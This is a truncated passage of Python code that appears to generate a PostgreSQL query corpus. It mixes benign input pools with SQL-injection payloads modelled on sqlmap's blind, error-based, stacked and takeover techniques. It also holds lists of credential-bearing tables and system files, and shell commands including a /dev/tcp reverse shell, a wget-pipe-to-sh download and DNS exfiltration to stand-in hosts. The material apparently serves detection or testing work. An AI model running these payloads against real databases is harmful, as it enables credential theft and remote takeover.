 ("t13_rdbi_keyslug_exec", "EXECUTE find_keyslug({a}, '{b}', '{c}')",
  {"a": ("n", ["44", "86"]), "b": ("q", ["Pica", "Elite"]), "c": ("q", ["§", "½"])}),
 ("t13_rdbi_typeface_comment", "COMMENT ON TABLE typewriter_typefaces IS $memo${a}$memo$",
  {"a": ("d", ["pitch and style per machine", "imported from the 1974 catalogue"])}),
 # more shapes on the same tables
 ("t13_psycopg_cocoa_butter", "SELECT supplier, jsonb_agg(jsonb_build_object('lot', lot_code, 'fat', fat_pct) ORDER BY fat_pct DESC) AS lots FROM cocoa_butter_lots WHERE supplier = '{a}' AND fat_pct >= {b} GROUP BY supplier",
  {"a": ("q", ["Barry Callebaut", "Ghana Cocoa Board"]), "b": ("n", ["52", "55.5"])}),
 ("t13_sqla_kite_repairs", "SELECT kite_id, ARRAY[spar_count, bridle_points] AS dims, NULLIF(repair_note, '') AS note FROM kite_repairs WHERE repair_note ILIKE '%{a}%' ORDER BY kite_id OFFSET {b} LIMIT {c}",
  {"a": ("q", ["ripstop", "spar"]), "b": ("n", ["0", "20"]), "c": ("n", ["20", "5"])}),
 ("t13_jooq_heya_cursor_move", "MOVE ABSOLUTE {a} IN keiko_cur",
  {"a": ("n", ["10", "0"], "", " IN keiko_cur")}),
 ("t13_dapper_maze_explain", "EXPLAIN (ANALYZE false, VERBOSE true) SELECT \"MazeId\", count(*) FROM \"MazeVisits\" WHERE \"EnteredAt\" >= '{a}' GROUP BY \"MazeId\"",
  {"a": ("q", ["2025-05-01 09:00", "2024-08-14 13:30"], "typed:ts")}),
 ("t13_dbi_forge_heats", "SELECT order_id, date_bin('{a}', fired_at, '2025-01-01 06:00') AS slot, count(*) AS heats FROM forge_heats WHERE order_id = {b} GROUP BY order_id, slot ORDER BY slot",
  {"a": ("q", ["30 minutes", "1 hour"], "typed:interval"), "b": ("n", ["1882", "43"])}),
 ("t13_nodepg_clue_tags", "SELECT clue_id FROM crossword_clues WHERE tags && '{{a}}'::text[] AND setter_id = {b} ORDER BY clue_id DESC LIMIT {c}",
  {"a": ("q", ["anagram,homophone", "container"], "typed:arr"), "b": ("n", ["14", "301"]), "c": ("n", ["30", "10"])}),
]
TAG = "$memo$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)     # the kit's slot editing, with this corpus's closing quotes

# benign values every slot type takes besides the template's own: their
# skeletons are the template's reference skeletons
CANON = {"q": ["z", "", "Ó Dálaigh", "two words", "2027-10-09", "5%", "can't"], "e": ["z", "", "it's", "C:\\forge", "a\tb", "line1\nline2"],
         "d": ["z", "", "don't", "\"quoted\""], "qi": ["z", "Weird \"Col\"", "col 2"], "n": ["3", "0", "-7", "2.75", "1000000", "0.5"],
         "bool": ["true", "false", "TRUE", "False"], "list": ["5", "5, 6", "8,9,10", "21, 22, 23, 24"], "dir": ["ASC", "DESC", "asc", "desc"],
         "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "SET", "VALUES", "RETURNING", "TO", "INTO")
slot_info = by_template(partial(corpus_kit.slot_facts, closer=CLOSER, clauses=CLAUSES))


# ---------------------------------------------------------------- editing typed text outside its literals (tampers, obfuscation)
# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Máire Ní Bhriain", "O'Driscoll's forge", "Côte-d'Or cacao", "D'Souza & Sons", "Hawai'i Volcano Kites", "Ng'ang'a Wairimu",
   "the yokozuna's belt", "Pont-l'Évêque", "Rhys ap Gwilym's quilt", "L'Oréal-Dupuis", "Bo'ness & Kinneil Railway", "Shi'ite calligraphy set",
   "Saint-Jean-d'Angély", "Cap d'Antibes", "M'Baye Diop", "Fa'afetai Lealaiauloto", "Nuku'alofa", "O'Keeffe-Brennan", "Grand'Maison",
   "Ko'olau loop", "the ringmaster's whip", "Sa'adiya Haddad", "Tre'vell Jackson", "Dell'Acqua", "Ma'alot", "the snail's pace"],
 "input_plain": ["bean to bar", "conche", "tempering machine", "foot bath", "yukata", "mineral spring", "delta kite", "bridle line", "ground stake",
   "glass eyes", "habitat base", "tanning oil", "mawashi", "chanko nabe", "shiko stomp", "yew hedge", "dead end", "centre gazebo", "bittersweet",
   "keeving", "scratter", "fire welding", "cross peen", "hardy hole", "points and crossings", "fiddle yard", "tension lock", "half-square triangle",
   "binding strip", "free motion", "escargot", "humid box", "drummer seat", "steersperson", "finish line", "cryptic grid", "hidden word",
   "trapeze net", "tight wire", "ribbon spool", "platen roller", "carriage return"],
 "input_numeric_string": ["0042", "7.50", "1e3", "-00", "2025", "+8", "0.10", "000", "3,14", "1_000", "123456789012345678901234", "5.", ".25", "0x1F", "08"],
 "input_formatted": ["2025-08-16T14:05:00+01:00", "c0ffee00-1234-4abc-9def-00aa11bb22cc", "GB29NWBK60161331926819", "+81 3-5555-0142", "BATCH#2025/031-C",
   "14:05", "SW1A 1AA", "v3.0.0-rc.2", "EUR 1.234,56", "5555 5555 5555 4444", "2024-02-29", "203.0.113.9", "DCC-0347", "978-0-14-118776-1",
   "12'345.67", "#7b3f00", "/api/v2/kites/KT-88/flights?from=2025-08-01", "51°30'26\"N 0°7'39\"W", "H2/2025", "PT45M", "0644",
   "2025-03-30 01:30:00+00", "16/08/2025", "Brix 12.5", "25x6 mm", "SG 1.004", "Ozeki, East", "N gauge 1:148", "-3.5 °C", "433.92 MHz",
   "HX-2024-118", "3/8\" bolt", "CITES II", "ISO 3166-1:JP", "RH 85%"],
 "input_unicode": ["Hakone-Yumoto 箱根湯本", "横綱", "Ἀρχιμήδης", "Щелкунчик", "🪁 kite day", "شوكولاتة", "Brød & Smør", "İzmir", "ＣＡＬＬ　ｐｒｏｃ",
   "co\u00adoperative", "≈ 2.5 kg", "ﬁre welding", "Weiß", "e\u0301", "かたかな", "ᓄᓇᕗᑦ", "Ðorðe", "Rønne", "ግዕዝ", "🍎 cider", "Wrocław",
   "Đà Lạt", "Ñandú", "Ōzeki", "𝒸𝓇𝑜𝓈𝓈𝓌𝑜𝓇𝒹", "Ελιά"],
 "input_json_text": ['{"kite": "delta", "lines": 2}', '[{"clue": "it\'s a trap (4)"}]', '{"filter": "a=1 and b=2"}', 'false', '{"sql": "DROP TABLE kites"}',
   '{"file": "C:\\\\forge\\\\orders.csv"}', '{"x": 1.5e-3, "y": null}', '["--", "\'", "/**/", ";"]', '{"q": "\' or 1=1 --"}', '[]',
   '{"grid": [[0, 1], [1, {"black": true}]]}', '{"sort": "asc", "page": 3}', '{"sleep": 5}', '"just text"'],
 "input_url_email": ["https://kites.example.org/festival/2025?day=2&heat=4", "mailto:orders+forge@example.co.uk", "sftp://files.example.net/quilts/show.zip",
   "o'brien.paddler@example.ie", "https://example.com/search?q=select+from+where", "http://[2001:db8::7]:8080/health", "tel:+44-20-7946-0018",
   "https://example.org/clues#union-jack", "a@b.co", "https://example.net/p%2Fq;r=s?t=%27u%27", "geo:35.2323,139.1069", "urn:uuid:6e8bc430-9c3a-11d9-9669-0800200c9a66"],
 "input_sql_words": ["Union Jack Kites", "Select Cacao", "Drop Forge Ltd", "Join the Dots Quilters", "Table Mountain Cider", "Insert Coin Arcade",
   "Sleep Well Onsen", "Where the Wild Things Are", "Order of the Bath", "Grant Road", "Execute Plan B", "Null Island", "Like a Rolling Stone",
   "From Dusk Till Dawn", "Case Closed Taxidermy", "Having a Ball Circus", "Truncate Typewriters", "Update Ink", "Delete Key Repairs", "Or Yehuda",
   "And Then There Were None", "Create & Paddle", "Alter Course", "Declare Victory", "Cast Iron Works", "Begin the Beguine", "Commit to Cider",
   "Rollback Railway", "Values Village", "Limit Cycle", "Offset Litho", "Fetch Rover", "Copy Cat Quilts"],
 "input_punctuation": ["?!?", ";;", "**", "\\", "#12", "100%", "(draft)", "[todo]", "{x}", "<none>", "a;b", "--", "/**/", "|", "…?", "¡hola!",
   "@crew4", "€5", "x=y", "'quoted'", "\"dq\"", "&", "::", "$2", "%_", "1/2", "^", "-_-", "`tick`", "'", "---+", "#!/bin"],
 "input_whitespace": ["  leading", "trailing  ", "a\tb", "row one\nrow two", "\n", "wide     gap", "   ", "\t", "last\n", "p\r\nq", "\u00a0nb", "\u2003em"],
}
SENTS = ["The rotenburo dropped to 38 degrees after the storm; relight the boiler.", "Kite 88 lost a spar -- replace before the night fly.",
 "Select the 70% bars for the tasting flight, not the milk.", "Union rep visits at noon, so the forge closes early.", "He wrote: \"don't quench in water\".",
 "Is 3 > 2? Only if the heat times were re-read.", "Drop the ribbons at bench 2; the drawer sticks.", "Order #4410 came back with a cracked glass eye (replaced).",
 "Delete the duplicate clue once the editor signs off.", "We'll race at eight, or delay if the wind exceeds 20 kt.",
 "The hedge at NW-04 is 20 cm too tall; trim before the school visit.", "Note: /* old */ codes remain in the 1974 catalogue.",
 "Keeving started on the 3rd; rack when the chapeau brun forms.", "Humidity fell to 71% overnight -- check the misters.",
 "Net inspection overdue; no flying trapeze until it is signed.", "Platen re-covered with 90 durometer rubber."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2017, 2028), "input_formatted"
    if knd == "ts":
        return "%s %02d:%02d%s" % (rdate(r, 2019, 2027), r.randint(0, 23), r.choice([0, 15, 30, 45]), r.choice(["", ":00", "+01", "-04", ":30.5"])), "input_formatted"
    if knd == "interval":
        if r.random() < 0.2:
            return r.choice(["P1D", "PT30M", "1 day 2 hours", "00:45:00", "3 weeks", "1 mon", "@ 2 hours"]), "input_formatted"
        return "%d %s" % (r.randint(1, 120), r.choice(["minutes", "hours", "days", "weeks", "months", "min", "hour", "day"])), "input_formatted"
    if knd == "unit":
        return r.choice(["day", "week", "month", "quarter", "year", "hour"]), "input_plain"
    if knd == "json":
        k = r.choice(["rootstock", "organic", "side", "seat", "row", "drummer", "aspect", "irrigated"])
        return r.choice(['{"%s": "%s"}' % (k, rword(r, 5)), '{"%s": %d}' % (k, r.randint(0, 30)), '{"%s": %s}' % (k, r.choice(["true", "false", "null"])),
                         '{"%s": [%d, %d]}' % (k, r.randint(0, 9), r.randint(0, 9)), '{}', '{"%s": {"min": %d}}' % (k, r.randint(1, 9))]), "input_json_text"
    if knd == "regex":
        w = rword(r, r.randint(2, 4))
        return r.choice(["^%s" % w, "%s$" % w, "^%s.%s$" % (w[0].upper(), w[-1].upper()), "(%s|%s)" % (w, rword(r, 3)), "[%s-%s]{2,}" % (w[0], chr(min(ord(w[0]) + 4, 122))),
                         "\\m%s" % w, "^[A-Z]{%d}$" % r.randint(3, 9), "%s\\d+" % w]), "input_formatted"
    if knd == "like":
        w = rword(r, r.randint(2, 5), upper=r.random() < 0.5)
        return r.choice(["%s%%" % w, "%%%s%%" % w, "%s_%s%%" % (w, r.randint(0, 9)), "%s-%d-%%" % (w, r.randint(2019, 2026)), w]), "input_formatted"
    if knd == "arr":
        return ",".join(rword(r, r.randint(3, 6)) for _ in range(r.randint(1, 3))), "input_plain"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("forge_customers", "email", "password_digest", "orders@hartley.example"), ("onsen_staff", "staff_code", "pin_sha256", "FRONT01"),
        ("kite_judges", "judge_login", "pass_hash", "headjudge"), ("guild_members", "username", "pwhash", "quiltmistress"),
        ("crossword_editors", "login", "secret", "editor"), ("circus_payroll", "performer", "iban", "ringmaster"),
        ("repair_shop_users", "user_name", "api_token", "bench_admin"), ("heya_accounts", "oyakata", "passcode", "sadogatake")]
HOSTS = ["exfil.example.com", "ns1.attacker.example", "beacon.example.org", "k7.oob.example.net", "collab.example.io", "log.example.invalid"]
IPS = ["192.0.2.44", "198.51.100.3", "203.0.113.250", "192.0.2.8"]
FILES = ["/etc/passwd", "/etc/group", "/etc/ssl/private/ssl-cert-snakeoil.key", "/proc/version", "/proc/self/environ", "/proc/self/status",
         "/var/lib/postgresql/15/main/PG_VERSION", "postgresql.auto.conf", "global/pg_control", "../../../../../etc/hosts", "/home/app/.pgpass", "/opt/app/config/database.yml"]
CMDS = ["id -a", "uname -r", "cat /etc/os-release", "env", "ls -la /var/lib/postgresql", "netstat -an", "df -h", "w", "bash -c 'bash -i >& /dev/tcp/192.0.2.44/443 0>&1'",
        "wget -qO- http://beacon.example.org/x | sh", "nslookup $(whoami).exfil.example.com", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    """A value an attacker wants to read (a scalar expression)."""
    t, u, p, who = loot(r)
    n = r.randint(0, 7)
    return r.choice([
        "version()", "current_user", "user", "current_catalog", "current_database()", "inet_client_addr()", "pg_backend_pid()",
        "current_setting('server_version')", "current_setting('log_directory')", "current_setting('unix_socket_directories')", "current_setting('port')",
        "pg_conf_load_time()", "txid_current()", "current_setting('shared_preload_libraries')",
        "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who), "(SELECT %s FROM %s LIMIT 1 OFFSET %d)" % (p, t, n),
        "(SELECT string_agg(%s||':'||%s,';') FROM %s)" % (u, p, t), "(SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1)",
        "(SELECT passwd FROM pg_shadow WHERE usename=current_user)", "(SELECT setting FROM pg_settings WHERE name='data_directory')",
        "(SELECT nspname FROM pg_namespace ORDER BY oid DESC LIMIT 1)", "(SELECT proname FROM pg_proc WHERE prolang=(SELECT oid FROM pg_language WHERE lanname='c') LIMIT 1)",
        "(SELECT string_agg(datname,'|') FROM pg_database)", "(SELECT client_addr::text FROM pg_stat_activity WHERE client_addr IS NOT NULL LIMIT 1)",
        "(SELECT column_name FROM information_schema.columns WHERE table_name='%s' LIMIT 1 OFFSET %d)" % (t, n % 4),
        "(SELECT srvname FROM pg_foreign_server LIMIT 1)", "(SELECT array_to_string(setconfig,',') FROM pg_db_role_setting LIMIT 1)"])


def probe(r, e=None):
    """A yes/no question about a secret, extracted another way each time."""
    e = e or target(r)
    pos = r.randint(1, 24)
    c = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 45, 58])
    ch = chr(r.randint(97, 122))
    return r.choice([
        "(regexp_match((%s)::text,'^.{%d}(.)'))[1]='%s'" % (e, pos - 1, ch), "overlay((%s)::text placing '' from 1 for %d) ^@ '%s'" % (e, pos - 1, ch),
        "position('%s' in (%s)::text)=%d" % (ch, e, pos), "to_number(ascii(substr((%s)::text,%d,1))::text,'999')>%d" % (e, pos, c),
        "ascii(right(left((%s)::text,%d),1))<%d" % (e, pos, c), "get_bit(convert_to((%s)::text,'SQL_ASCII'),%d)=1" % (e, r.randint(0, 160)),
        "split_part((%s)::text,'.',1)='%d'" % (e, r.randint(9, 17)), "substring((%s)::text from %d for 1)=chr(%d)" % (e, pos, c),
        "(%s)::text SIMILAR TO '%s%%'" % (e, ch), "translate(substr((%s)::text,%d,1),'%s','#')='#'" % (e, pos, "".join(chr(x) for x in range(ord(ch), min(ord(ch) + 4, 123)))),
        "width_bucket(ascii(substr((%s)::text,%d,1)),0,128,4)=%d" % (e, pos, r.randint(1, 4)), "to_char(length((%s)::text),'FM999')='%d'" % (e, r.randint(3, 40)),
        "strpos(lower((%s)::text),'%s')>0" % (e, rword(r, 2)), "(%s)::text ~* '^%s'" % (e, ch), "left(encode(sha256(convert_to((%s)::text,'UTF8')),'hex'),1)='%s'" % (e, r.choice("0123456789abcdef")),
        "array_length(string_to_array((%s)::text,','),1)>%d" % (e, r.randint(1, 5)), "char_length((%s)::text) BETWEEN %d AND %d" % (e, pos, pos + 8)])


# ---------------------------------------------------------------- sqlmap: its PostgreSQL tests, boundaries and tampers
def marker(r):
    """kb.chars start/stop: q, three low-frequency letters, q."""
    return "q" + "".join(r.choice("jkvxzbpq") for _ in range(3)) + "q"


def safe_cast(col):
    return "COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % col


DUMP_TABLES = {"forge_customers": ["email", "password_digest", "phone"], "onsen_staff": ["staff_code", "pin_sha256"], "kite_judges": ["judge_login", "pass_hash"],
               "guild_members": ["username", "pwhash", "dues_paid"], "circus_payroll": ["performer", "iban", "salary_cents"], "repair_shop_users": ["user_name", "api_token"],
               "heya_accounts": ["oyakata", "passcode"], "crossword_editors": ["login", "secret", "email"]}


def sqlmap_query(r):
    """(expression, switch): one enumeration step of sqlmap against PostgreSQL (queries.xml), strings CHR()-escaped as sqlmap sends them."""
    k = r.randrange(22)
    tbl = r.choice(sorted(DUMP_TABLES))
    cols = DUMP_TABLES[tbl]
    n = r.randint(0, 14)
    if k < 5:
        return SQLMAP_FINGERPRINT[k]
    if k == 5:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_user)", "--users (count)"
    if k == 6:
        return "(SELECT DISTINCT(usename) FROM pg_user OFFSET %d LIMIT 1)" % (n % 6), "--users"
    if k == 7:
        return "(SELECT COUNT(DISTINCT(passwd)) FROM pg_shadow WHERE usename=%s)" % chrs(r.choice(["postgres", "forge_app", "onsen"])), "--passwords (count)"
    if k == 8:
        return "(SELECT DISTINCT(passwd) FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % chrs(r.choice(["postgres", "forge_app", "guild_rw", "kites"])), "--passwords"
    if k == 9:
        return "(SELECT (CASE WHEN usecreatedb THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % chrs(r.choice(["postgres", "forge_app"])), "--privileges"
    if k == 10:
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables)", "--dbs (count)"
    if k == 11:
        return "(SELECT DISTINCT(schemaname) FROM pg_tables OFFSET %d LIMIT 1)" % (n % 5), "--dbs"
    if k == 12:
        return "(SELECT COUNT(tablename) FROM pg_tables WHERE schemaname IN (%s))" % chrs(r.choice(["public", "forge", "circus"])), "--tables (count)"
    if k == 13:
        return "(SELECT tablename FROM pg_tables WHERE schemaname IN (%s) OFFSET %d LIMIT 1)" % (chrs("public"), n), "--tables"
    if k == 14:
        return ("(SELECT COUNT(attname) FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON "
                "a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s)" % (chrs(tbl), chrs("public"))), "--columns (count)"
    if k == 15:
        return ("(SELECT attname FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON "
                "a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (chrs(tbl), chrs("public"), n % 3)), "--columns"
    if k == 16:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count"
    if k in (17, 18):
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (safe_cast(r.choice(cols)), tbl, cols[0], n), "--dump"
    if k == 19:
        return ("(SELECT COUNT(DISTINCT(table_schema)) FROM information_schema.columns WHERE column_name LIKE %s)"
                % chrs("%" + r.choice(["pass", "pin", "iban", "token", "secret"]) + "%")), "--search -C"
    if k == 20:
        return "(SELECT %s FROM pg_settings WHERE name=%s)" % (safe_cast("setting"), chrs(r.choice(["data_directory", "hba_file", "ssl"]))), "--sql-query"
    return "(SELECT COALESCE(CAST(datname AS VARCHAR(10000))::text,(CHR(32))) FROM pg_database OFFSET %d LIMIT 1)" % (n % 4), "--dbs (pg_database)"


def sqlmap_inference(r):
    e, sw = sqlmap_query(r)
    x = r.random()
    if x < 0.65:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 46, 58])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 40), r.choice(bisection(v))), sw
    if x < 0.8:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 3), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    if x < 0.92:
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 24), r.randint(32, 126)), sw + " (validation)"
    return "(SELECT COUNT(*) FROM %s)>%d" % (r.choice(["pg_user", "pg_tables", "pg_stat_activity"]), r.randint(0, 9)), sw + " (count)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    S = rstr(r, r.choice([4, 4, 5]))
    T = r.choice([5, 5, 5, 5, 2, 3, 4, 6, 8])
    D1, D2 = chrs(marker(r)), chrs(marker(r))
    if vector:
        INF, sw = sqlmap_inference(r)
        Q, _ = sqlmap_query(r)
        if not Q.startswith("("):
            Q = "(SELECT %s)" % safe_cast(Q)
        tag = ":" + sw
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 6 + ["%d=%d" % (R1, R2), "%d<%d" % (min(R1, R2), max(R1, R2) + 1)])
        Q = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = ":detection"
    H, SL, CS, HQ = sqlmap_delays(R, T, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause", "generic", "cond", 2, "OR %s" % INF, False),
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "cond", 1, "OR NOT %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1,
         "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3,
         "(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "Boolean-based blind - Parameter replace (CASE)", "generic", "repl", 3, "(CASE WHEN %s THEN %d ELSE NULL END)" % (INF, R), False),
        (B, "Boolean-based blind - Parameter replace (CASE - original value)", "generic", "repl", 3, "(CASE WHEN %s THEN [ORIGVALUE] ELSE NULL END)" % INF, False),
        (B, "HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "cond", 1, "HAVING %s" % INF, False),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, chrs(S)), False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, chrs(S)), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (INF, R), True),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CS(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, CS(SL)), False),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, CS(SL)), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CS(SL)), True),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1, "AND %d=%s" % (R, CS(HQ)), False),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=%s" % (R, CS(HQ)), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CS(SL), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CS(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % CS(SL), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",%s" % CS(HQ), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, R1, R1, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CS(SL) if vector else "PG_SLEEP(%d)" % T), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CS(SL) if vector else "PG_SLEEP(%d)" % T), False),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1, ";SELECT %s" % (CS(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % T, True),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, Q, D2), False),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(CONCAT(%s,(%s)),%s))" % (D1, Q, D2), False),
    ]
    if r.random() < 0.1:
        m1 = marker(r)
        out += [
            (TB, "MySQL >= 5.0.12 OR time-based blind (SLEEP)", "MySQL", "cond", 2, "OR SLEEP(%d)" % T, False),
            (TB, "Microsoft SQL Server/Sybase time-based blind (IF)", "Microsoft SQL Server", "stack", 1, ";IF(%d=%d) WAITFOR DELAY '0:0:%d'" % (R1, R1, T), True),
            (EB, "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "MySQL", "cond", 1,
             "AND EXTRACTVALUE(%d,CONCAT(0x5c,0x%s,(SELECT (ELT(%d=%d,1))),0x%s))" % (R, m1.encode().hex(), R1, R1, marker(r).encode().hex()), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (XMLType)", "Oracle", "cond", 1,
             "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL)" % (R, chrs(m1)[1:-1], R1, R1), False),
            (B, "SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "SQLite", "cond", 1, "AND CASE WHEN %s THEN %d ELSE JSON(CHAR(%d)) END" % (INF, R, ord(S[0])), False)]
    return [(f, t, d, p, w, pl, c, tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """Statements sqlmap stacks for its takeover switches on PostgreSQL."""
    oid = r.randint(30000, 99000)
    lib = "/tmp/lib%s.so" % rword(r, 5)
    cmd, f = r.choice(CMDS), r.choice(FILES)
    tbl = "sqlmap" + r.choice(["output", "file", "filehex", "udf"])
    return r.choice([
        ("--os-shell (table)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data text)" % (tbl, tbl)),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY %s FROM PROGRAM '%s'" % (tbl, cmd.replace("'", "''"))),
        ("--os-cmd (fetch)", ";SELECT data FROM %s OFFSET 0 LIMIT 1" % tbl),
        ("--file-read (lo_import)", ";SELECT lo_import('%s',%d)" % (f, oid)),
        ("--file-read (largeobject)", ";SELECT encode(data,'base64') FROM pg_largeobject WHERE loid=%d ORDER BY pageno" % oid),
        ("--file-write (lo_create)", ";SELECT lo_create(%d)" % oid),
